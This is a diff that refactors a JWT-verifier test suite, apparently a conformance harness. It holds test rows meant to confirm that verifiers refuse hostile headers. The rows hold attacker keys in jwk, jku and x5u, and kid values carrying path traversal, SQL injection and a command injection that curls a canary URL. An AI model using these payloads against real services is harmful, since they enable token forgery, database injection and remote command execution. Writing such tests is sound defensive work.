@@ -3,6 +3,7 @@ import { jwk, jwks, pemChain } from '../../harness/mutations/key-documents.js'
 import { signature } from '../../harness/mutations/mutation.js'
 import type { Mutation } from '../../harness/mutations/types.js'
 import type { Row } from '../support/row.js'
+import { row } from '../support/row.js'
 
 /** A `jku` from which the attacker's key can be fetched. */
 export const withJku: Mutation = signature("jku of the attacker's key, attacker-signed", (signing, context) => {
@@ -20,60 +21,35 @@ const traversal = '../'.repeat(12)
 
 /** Header members that name another key than the first of `x5c` (L247, L248). */
 export const refused: readonly Row[] = [
-  {
-    id: 'header.jwk',
-    title: "an attacker's key in jwk",
-    requirements: ['JWT-HEADER-KEYS'],
-    cases: ['HDR-02'],
-    detects: ['honours-jwk'],
-    mutate: signature("jwk of the attacker's key, attacker-signed", (signing, { foreignKey }) => {
+  row('header.jwk', 'HDR-02', 'honours-jwk').sends(
+    "an attacker's key in jwk",
+    signature("jwk of the attacker's key, attacker-signed", (signing, { foreignKey }) => {
       signing.key = foreignKey
       signing.header.jwk = jwk(foreignKey) as Record<string, string>
     }),
-  },
-  {
-    id: 'header.jku',
-    title: "an attacker's key behind jku",
-    requirements: ['JWT-HEADER-KEYS'],
-    cases: ['HDR-03'],
-    detects: ['honours-jku'],
-    mutate: withJku,
-  },
-  {
-    id: 'header.x5u',
-    title: "an attacker's certificate behind x5u",
-    requirements: ['JWT-HEADER-KEYS'],
-    cases: ['HDR-04'],
-    detects: ['honours-x5u'],
-    mutate: withX5u,
-  },
-  {
-    id: 'header.kid',
-    title: 'a kid that names a file, a query or a command',
-    requirements: ['JWT-HEADER-KEYS'],
-    cases: ['HDR-05'],
-    detects: ['honours-kid'],
-    mutate: [
-      hmacSigned(
-        'kid of an empty file',
-        () => '',
-        () => ({ kid: `${traversal}dev/null` }),
-      ),
-      hmacSigned(
-        'kid of an empty file, absolute',
-        () => '',
-        () => ({ kid: '/dev/null' }),
-      ),
-      hmacSigned(
-        'kid with SQL',
-        () => 'key',
-        () => ({ kid: "x' UNION SELECT 'key' -- " }),
-      ),
-      hmacSigned(
-        'kid with a command',
-        () => '',
-        ({ canary }) => ({ kid: `x; curl ${canary('kid')} #` }),
-      ),
-    ],
-  },
+  ),
+  row('header.jku', 'HDR-03', 'honours-jku').sends("an attacker's key behind jku", withJku),
+  row('header.x5u', 'HDR-04', 'honours-x5u').sends("an attacker's certificate behind x5u", withX5u),
+  row('header.kid', 'HDR-05', 'honours-kid').sends('a kid that names a file, a query or a command', [
+    hmacSigned(
+      'kid of an empty file',
+      () => '',
+      () => ({ kid: `${traversal}dev/null` }),
+    ),
+    hmacSigned(
+      'kid of an empty file, absolute',
+      () => '',
+      () => ({ kid: '/dev/null' }),
+    ),
+    hmacSigned(
+      'kid with SQL',
+      () => 'key',
+      () => ({ kid: "x' UNION SELECT 'key' -- " }),
+    ),
+    hmacSigned(
+      'kid with a command',
+      () => '',
+      ({ canary }) => ({ kid: `x; curl ${canary('kid')} #` }),
+    ),
+  ]),
 ]
